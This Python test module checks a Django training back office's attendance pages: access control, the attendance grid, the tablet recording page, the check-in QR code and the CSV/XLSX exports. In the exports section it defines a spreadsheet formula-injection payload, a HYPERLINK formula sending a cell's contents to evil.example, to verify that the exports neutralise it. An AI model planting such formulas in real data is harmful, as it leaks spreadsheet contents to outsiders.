"""The back office's attendance pages: the session's grid, the trainer's tablet page of a
half-day (with HTMX and without JavaScript), the check-in QR code and the exports; who may
open them, and what they show."""

from __future__ import annotations

import csv
import io

import pytest
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from openpyxl import load_workbook

from mizan.training.enums import AttendanceMethod, AttendanceStatus
from mizan.training.models import Attendance
from mizan.training.services import attendance as services
from mizan.training.services import sessions as session_services
from tests.training.attendance_builders import make_course
from tests.training.builders import make_participant, make_trainer
from tests.training.builders import outsider as coordinator_elsewhere

pytestmark = pytest.mark.django_db

PRESENT = AttendanceStatus.PRESENT
HTMX = {"HTTP_HX_REQUEST": "true"}


@pytest.fixture
def trainer(db):
    return make_trainer("session-trainer")


@pytest.fixture
def course(trainer):
    return make_course(3, trainers=[trainer])


def logged_in(client, user):
    client.force_login(user)
    return client


def status_of(enrolment, slot) -> str | None:
    record = Attendance.objects.filter(enrolment=enrolment, slot=slot).first()
    return record.status if record else None


PAGES = {
    "grid": lambda c: reverse("staff:session_attendance", args=[c.session.pk]),
    "csv": lambda c: reverse("staff:session_attendance_csv", args=[c.session.pk]),
    "xlsx": lambda c: reverse("staff:session_attendance_xlsx", args=[c.session.pk]),
    "tablet": lambda c: reverse("staff:slot_attendance", args=[c.morning.pk]),
    "qr": lambda c: reverse("staff:slot_check_in_code", args=[c.morning.pk]),
    "png": lambda c: reverse("staff:slot_check_in_code_png", args=[c.morning.pk]),
}


# --- Who may open the pages ------------------------------------------------------------------


@pytest.mark.parametrize("page", PAGES)
def test_the_organiser_opens_the_page(client, course, page):
    assert logged_in(client, course.organiser).get(PAGES[page](course)).status_code == 200


@pytest.mark.parametrize("page", PAGES)
def test_a_trainer_of_the_session_opens_the_page(client, course, trainer, page):
    assert logged_in(client, trainer).get(PAGES[page](course)).status_code == 200


@pytest.mark.parametrize("page", PAGES)
def test_a_coordinator_of_an_institution_that_does_not_organise_is_refused(client, course, page):
    response = logged_in(client, coordinator_elsewhere()).get(PAGES[page](course))
    assert response.status_code == 403
    assert course.enrolments[0].participant.name_latin.encode() not in response.content


def test_a_trainer_of_another_session_is_refused(client, course):
    other = make_trainer("other-trainer")
    assert logged_in(client, other).get(PAGES["grid"](course)).status_code == 403


def test_an_account_without_membership_is_refused_before_any_lookup(client, course, outsider):
    client.force_login(outsider)
    known = client.get(PAGES["tablet"](course))
    unknown = client.get(reverse("staff:slot_attendance", args=[987654]))
    assert (known.status_code, unknown.status_code) == (403, 403)


def test_a_visitor_is_sent_to_log_in(client, course):
    response = client.get(PAGES["grid"](course))
    assert response.status_code == 302
    assert "/accounts/login/" in response["Location"]


def test_an_unknown_session_is_not_found(client, course):
    url = reverse("staff:session_attendance", args=[987654])
    assert logged_in(client, course.organiser).get(url).status_code == 404


# --- The session's grid -----------------------------------------------------------------------


def test_the_grid_shows_each_participant_and_links_each_half_day(client, course):
    services.record_attendance(enrolment=course.enrolments[0], slot=course.morning, status=PRESENT)
    response = logged_in(client, course.organiser).get(PAGES["grid"](course))
    content = response.content.decode()
    for enrolment in course.enrolments:
        assert enrolment.participant.name_latin in content
    for slot in course.slots:
        assert reverse("staff:slot_attendance", args=[slot.pk]) in content
    assert "210" in content  # the first participant's minutes


def test_the_grid_page_takes_the_same_queries_for_one_or_three_participants(client, course):
    counts = []
    for people, code in ((1, "course-one"), (3, "course-three")):
        course = make_course(people, code=code, title=code, by=course.organiser)
        for enrolment in course.enrolments:
            services.record_attendance(enrolment=enrolment, slot=course.morning, status=PRESENT)
        logged_in(client, course.organiser)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(PAGES["grid"](course)).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]


# --- The tablet page ---------------------------------------------------------------------------


def test_the_tablet_page_has_four_buttons_per_participant(client, course):
    response = logged_in(client, course.organiser).get(PAGES["tablet"](course))
    content = response.content.decode()
    assert content.count('name="status" value="present"') == 3
    assert content.count('name="status" value="absent"') == 3


def test_a_button_saves_at_once_with_htmx(client, course, trainer):
    enrolment = course.enrolments[1]
    response = logged_in(client, trainer).post(
        PAGES["tablet"](course), {"enrolment": enrolment.pk, "status": "late"}, **HTMX
    )
    assert response.status_code == 200
    content = response.content.decode()
    assert f'id="enrolment-{enrolment.pk}"' in content
    assert 'value="late" class="attendance-choice attendance-late" aria-pressed="true"' in content
    assert 'id="slot-counts"' in content and 'hx-swap-oob="true"' in content
    assert "<html" not in content
    assert status_of(enrolment, course.morning) == AttendanceStatus.LATE


def test_the_form_works_without_javascript(client, course):
    enrolment = course.enrolments[0]
    response = logged_in(client, course.organiser).post(
        PAGES["tablet"](course), {"enrolment": enrolment.pk, "status": "excused"}
    )
    assert response.status_code == 302
    assert response["Location"] == PAGES["tablet"](course) + f"#enrolment-{enrolment.pk}"
    assert status_of(enrolment, course.morning) == AttendanceStatus.EXCUSED


def test_a_refused_record_shows_why_in_the_row(client, course):
    enrolment = course.enrolments[0]
    response = logged_in(client, course.organiser).post(
        PAGES["tablet"](course), {"enrolment": enrolment.pk, "status": "asleep"}, **HTMX
    )
    assert 'role="alert"' in response.content.decode()
    assert status_of(enrolment, course.morning) is None


def test_a_participant_of_another_session_cannot_be_recorded_here(client, course):
    other = make_course(1, code="other-course", by=course.organiser)
    response = logged_in(client, course.organiser).post(
        PAGES["tablet"](course), {"enrolment": other.enrolments[0].pk, "status": "present"}
    )
    assert response.status_code == 302
    assert not Attendance.objects.exists()


def test_an_outsider_cannot_record(client, course):
    response = logged_in(client, coordinator_elsewhere()).post(
        PAGES["tablet"](course), {"enrolment": course.enrolments[0].pk, "status": "present"}
    )
    assert response.status_code == 403
    assert not Attendance.objects.exists()


def test_everyone_not_yet_recorded_is_marked_absent(client, course):
    first, second, third = course.enrolments
    services.record_attendance(enrolment=first, slot=course.morning, status=PRESENT)
    url = reverse("staff:slot_mark_unrecorded_absent", args=[course.morning.pk])
    response = logged_in(client, course.organiser).post(url, follow=True)
    assert [status_of(e, course.morning) for e in (first, second, third)] == [
        PRESENT,
        AttendanceStatus.ABSENT,
        AttendanceStatus.ABSENT,
    ]
    assert "2 participants recorded absent." in response.content.decode()


def test_an_outsider_cannot_mark_everyone_absent(client, course):
    url = reverse("staff:slot_mark_unrecorded_absent", args=[course.morning.pk])
    assert logged_in(client, coordinator_elsewhere()).post(url).status_code == 403
    assert not Attendance.objects.exists()


# --- The QR code page ----------------------------------------------------------------------------


def test_the_qr_page_shows_the_code_and_the_address_of_the_check_in_page(client, course):
    response = logged_in(client, course.organiser).get(PAGES["qr"](course))
    content = response.content.decode()
    address = "http://testserver" + reverse(
        "participant:check_in", args=[course.morning.check_in_code]
    )
    assert "<svg" in content and 'role="img"' in content
    assert address in content
    assert 'hx-trigger="every 10s"' in content


def test_the_qr_page_counts_check_ins_on_its_own_with_htmx(client, course):
    enrolment = course.enrolments[0]
    record = services.record_attendance(enrolment=enrolment, slot=course.morning, status=PRESENT)
    Attendance.objects.filter(pk=record.pk).update(method=AttendanceMethod.QR_CODE)
    response = logged_in(client, course.organiser).get(PAGES["qr"](course), **HTMX)
    content = response.content.decode()
    assert "1 check-in" in content
    assert "<svg" not in content


def test_the_qr_code_downloads_as_a_png(client, course):
    response = logged_in(client, course.organiser).get(PAGES["png"](course))
    assert response["Content-Type"] == "image/png"
    assert response.content.startswith(b"\x89PNG")


# --- The exports ---------------------------------------------------------------------------------

INJECTED = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


@pytest.fixture
def injected(course):
    """A participant whose name a spreadsheet would run as a formula, present once."""
    participant = make_participant(course.organiser, name_latin=INJECTED, name_arabic="")
    enrolment = session_services.enrol(
        session=course.session, participant=participant, by=course.organiser
    )
    services.record_attendance(enrolment=enrolment, slot=course.morning, status=PRESENT)
    return enrolment


def csv_sections(content: bytes) -> tuple[list[list[str]], list[list[str]]]:
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    blank = rows.index([])
    return rows[:blank], rows[blank + 2 :]


def test_the_csv_has_a_row_per_participant_and_half_day_and_a_summary(client, course, injected):
    response = logged_in(client, course.organiser).get(PAGES["csv"](course))
    assert response["Content-Type"].startswith("text/csv")
    assert "attachment" in response["Content-Disposition"]
    detail, summary = csv_sections(response.content)
    assert len(detail) == 1 + 4 * 6
    assert len(summary) == 1 + 4


def test_the_csv_neutralises_a_formula_in_a_name(client, course, injected):
    response = logged_in(client, course.organiser).get(PAGES["csv"](course))
    detail, summary = csv_sections(response.content)
    names = {row[0] for row in detail[1:]} | {row[0] for row in summary[1:]}
    assert "'" + INJECTED in names
    assert INJECTED not in names


def test_the_xlsx_neutralises_a_formula_in_a_name(client, course, injected):
    response = logged_in(client, course.organiser).get(PAGES["xlsx"](course))
    workbook = load_workbook(io.BytesIO(response.content))
    cells = [
        cell
        for sheet in workbook.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if INJECTED in str(cell.value or "")
    ]
    assert cells
    assert all(cell.value == "'" + INJECTED and cell.data_type == "s" for cell in cells)


def test_the_xlsx_summary_says_who_meets_the_threshold(client, course, injected):
    for slot in course.slots:
        services.record_attendance(enrolment=course.enrolments[0], slot=slot, status=PRESENT)
    response = logged_in(client, course.organiser).get(PAGES["xlsx"](course))
    summary = list(
        load_workbook(io.BytesIO(response.content))["Summary"].iter_rows(values_only=True)
    )
    meets = {row[0]: row[-1] for row in summary[1:]}
    assert meets[course.enrolments[0].participant.name_latin] == "yes"
    assert meets["'" + INJECTED] == "no"
    assert summary[0][-1] == "Meets the 80% needed"


def test_the_export_leaves_out_people_not_approved(client, course):
    participant = make_participant(course.organiser, name_latin="Withdrawn Officer")
    withdrawn = session_services.enrol(
        session=course.session, participant=participant, by=course.organiser
    )
    session_services.withdraw(enrolment=withdrawn, reason="Ill")
    response = logged_in(client, course.organiser).get(PAGES["csv"](course))
    assert withdrawn.participant.name_latin.encode() not in response.content


def test_the_tablet_page_takes_the_same_queries_for_one_or_three_participants(client, course):
    counts = []
    for people, code in ((1, "course-one"), (3, "course-three")):
        other = make_course(people, code=code, title=code, by=course.organiser)
        services.record_attendance(
            enrolment=other.enrolments[0], slot=other.morning, status=PRESENT
        )
        logged_in(client, course.organiser)
        with CaptureQueriesContext(connection) as queries:
            assert client.get(PAGES["tablet"](other)).status_code == 200
        counts.append(len(queries))
    assert counts[0] == counts[1]
